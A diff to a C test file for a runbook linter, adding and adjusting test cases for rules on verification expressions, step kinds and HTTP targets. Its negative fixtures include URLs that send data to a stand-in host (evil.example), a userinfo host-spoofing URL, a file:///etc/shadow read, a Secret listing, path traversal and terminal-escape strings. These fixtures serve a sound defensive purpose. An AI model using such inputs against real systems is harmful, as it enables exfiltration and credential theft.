@@ -185,6 +185,13 @@ TEST(the_good_one_is_clean_and_its_program_is_named)
 	      "ConfigMap web/${one}\", patch: {data: {a: b}}}}, verify: {expr: drops.count == 0 "  \
 	      "and agents.ready, poll: 5s, within: 5m, stable: 3}}\n"
 
+#define NOTED                                                                                      \
+	"- {id: said, title: t, kind: note, mutates: false, note: so, register: said}\n"           \
+	"- {id: set, title: t, kind: mutate, mutates: true, risk: medium, "                        \
+	"idempotency_key: once, rollback: {inverse: auto}, op: {k8s.patch: {ref: v1 ConfigMap "    \
+	"web/x, patch: {data: {a: b}}}}, verify: {expr: drops.count == 0 and agents.ready and "    \
+	"known(said), poll: 5s, within: 5m, stable: 3}}\n"
+
 #define AGENTS    "kind: query\n  mutates: false\n  query: {source: agents, limit: 100}"
 #define HTTP(url) "kind: http\n  mutates: false\n  http: {url: \"" url "\", output: 1KiB}"
 
@@ -264,6 +271,14 @@ static const struct {
 	{"RBL-016", "drops.count == 0 and agents.ready", "drops.count == 0", NULL},
 	{"RBL-016", "sources: 2", "sources: 1", NULL},
 	{"RBL-016", "stable: 3", "stable: 1", NULL},
+	{"RBL-016", "poll: 5s, within: 5m, stable: 3", "poll: 10m, within: 1m, stable: 100", NULL},
+	{"RBL-016", "poll: 5s, within: 5m, stable: 3", "poll: 3m, within: 5m, stable: 3", NULL},
+	{"RBL-016", "- id: fix\n", NOTED "- id: fix\n", NULL},
+	{"RBL-010", "agents.ready, poll", "agents.redy > 0, poll", NULL},
+	{"RBL-010", "when: drops.count > 0, cause", "when: drops.cuont > 0, cause", NULL},
+	{"RBL-011", AGENTS, "kind: check\n  mutates: false\n  check: ZZZ-999", "RBL-010"},
+	{"RBL-011", AGENTS, "kind: call\n  mutates: false\n  call: {runbook: not-there}",
+	 "RBL-010 RBL-016"},
 	{"RBL-017", "  rollback: {inverse: auto}\n", "", NULL},
 	{"RBL-017", "{inverse: auto}", "{inverse: none}", NULL},
 	{"RBL-017", "{inverse: auto}", "{}", NULL},
@@ -327,12 +342,12 @@ static const struct {
 	{"RBL-030", "${params.namespace}/x", "../${params.namespace}/x", NULL},
 	{"RBL-030", "${params.namespace}/x", "a/${params.namespace}/x", NULL},
 	{"RBL-030", "kind: query\n  mutates: false\n  query: {source: agents, limit: 100}",
-	 "kind: k8s\n  mutates: false\n  k8s: {list: v1 Secret, limit: 5}", NULL},
-	{"RBL-031", AGENTS, HTTP("http://evil.example/?x=${drops.count}"), NULL},
-	{"RBL-031", AGENTS, HTTP("http://a.b.svc@evil.example/"), NULL},
-	{"RBL-031", AGENTS, HTTP("http://${params.unit}.svc/"), NULL},
-	{"RBL-031", AGENTS, HTTP("http://evil.example/a.svc"), NULL},
-	{"RBL-031", AGENTS, HTTP("file:///etc/shadow"), NULL},
+	 "kind: k8s\n  mutates: false\n  k8s: {list: v1 Secret, limit: 5}", "RBL-010"},
+	{"RBL-031", AGENTS, HTTP("http://evil.example/?x=${drops.count}"), "RBL-010"},
+	{"RBL-031", AGENTS, HTTP("http://a.b.svc@evil.example/"), "RBL-010"},
+	{"RBL-031", AGENTS, HTTP("http://${params.unit}.svc/"), "RBL-010"},
+	{"RBL-031", AGENTS, HTTP("http://evil.example/a.svc"), "RBL-010"},
+	{"RBL-031", AGENTS, HTTP("file:///etc/shadow"), "RBL-010"},
 	{"RBL-032", "title: agents", "title: \"agents\\e[2J\"", NULL},
 	{"RBL-032", "title: agents", "title: \"agents \\u202e gniht on\"", NULL},
 	{"RBL-033", "- id: fix\n", ASKS "- id: fix\n", NULL},
@@ -636,7 +651,7 @@ TEST(a_service_of_the_cluster_may_be_asked)
 		const struct finding *f;
 
 		lint(&r, text, NULL, 0);
-		f = first_other(&r, NULL);
+		f = first_other(&r, "RBL-010"); /* agents.ready is of another kind now */
 		if (f)
 			fail_msg("%s: %s", urls[i], f->message);
 		report_release(&r);
